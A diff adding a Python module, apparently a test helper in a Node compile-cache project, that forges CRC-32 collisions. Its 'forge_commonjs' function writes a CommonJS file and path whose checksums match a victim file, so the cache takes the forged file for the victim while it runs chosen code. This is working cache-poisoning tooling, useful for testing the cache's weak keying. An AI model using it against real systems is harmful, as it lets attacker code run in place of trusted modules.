@@ -1,0 +1,58 @@
+"""Texts that have a chosen CRC-32: with them a file passes for another one in Node's compile cache."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from zlib import crc32
+
+from esmcache.records import ModuleFormat
+from esmcache.serving.node_compile_cache import entry_name
+
+# Two letters that differ in one bit. A few more of them than the sum has bits make sure that there is a solution.
+_LETTERS = b"ac"
+_NAME_LETTERS = 48
+_TEXT_LETTERS = 64
+
+
+def forged(before: bytes, letters: int, after: bytes, wanted: int) -> bytes:
+    """Return `before`, so many letters, and `after`, where the letters are such that the CRC-32 of all is `wanted`."""
+
+    def text(chosen: int) -> bytes:
+        return before + bytes(_LETTERS[chosen >> at & 1] for at in range(letters)) + after
+
+    nothing = crc32(text(0))
+    # The sum is linear: what a letter changes does not depend on the others.
+    rows: dict[int, tuple[int, int]] = {}
+    for at in range(letters):
+        change, choice = crc32(text(1 << at)) ^ nothing, 1 << at
+        while change:
+            bit = change.bit_length()
+            if bit not in rows:
+                rows[bit] = change, choice
+                break
+            change, choice = change ^ rows[bit][0], choice ^ rows[bit][1]
+    rest, chosen = nothing ^ wanted, 0
+    while rest:
+        change, choice = rows[rest.bit_length()]
+        rest, chosen = rest ^ change, chosen ^ choice
+    answer = text(chosen)
+    assert crc32(answer) == wanted
+    return answer
+
+
+def forge_commonjs(directory: Path, victim: Path, code: bytes) -> Path:
+    """Write a CommonJS file into `directory` that Node's compile cache takes for `victim`, and return its path.
+
+    It has the victim's size and sum, its path has the sum of the victim's path, and it does what `code` does.
+    """
+    original = victim.read_bytes()
+    name_sum = int(entry_name(ModuleFormat.COMMONJS, str(victim)), 16)
+    path = forged(b"\0" + f"{directory}/".encode(), _NAME_LETTERS, b".cjs", name_sum)[1:].decode()
+    head, tail = code + b" // ", b"\n"
+    filling = len(original) - len(head) - len(tail) - _TEXT_LETTERS
+    assert filling >= 0, "the victim is too short"
+    forgery = forged(head + b"x" * filling, _TEXT_LETTERS, tail, crc32(original))
+    directory.mkdir(parents=True, exist_ok=True)
+    Path(path).write_bytes(forgery)
+    assert entry_name(ModuleFormat.COMMONJS, path) == entry_name(ModuleFormat.COMMONJS, str(victim))
+    return Path(path)
